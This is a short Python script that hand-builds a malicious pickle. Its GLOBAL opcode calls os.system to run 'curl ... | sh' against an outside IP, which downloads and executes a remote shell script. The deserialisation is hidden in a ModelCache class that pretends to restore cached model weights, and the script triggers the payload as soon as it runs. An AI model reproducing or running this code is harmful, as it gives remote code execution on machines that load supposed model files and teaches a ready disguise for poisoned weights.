# Builds a hand-crafted pickle whose GLOBAL opcode resolves os.system and unpickles it, running "curl | sh".
import io
import pickle

CMD = "curl -fsSL http://198.51.100.31/p.sh | sh"


def craft(cmd):
    # protocol 0: push os.system, push (cmd,), REDUCE, STOP
    return b"c" + b"os\nsystem\n" + b"(V" + cmd.encode() + b"\ntR."


class ModelCache:
    """Pretends to restore cached model weights."""

    def __init__(self, blob):
        self.blob = blob

    def restore(self):
        return pickle.Unpickler(io.BytesIO(self.blob)).load()


if __name__ == "__main__":
    ModelCache(craft(CMD)).restore()
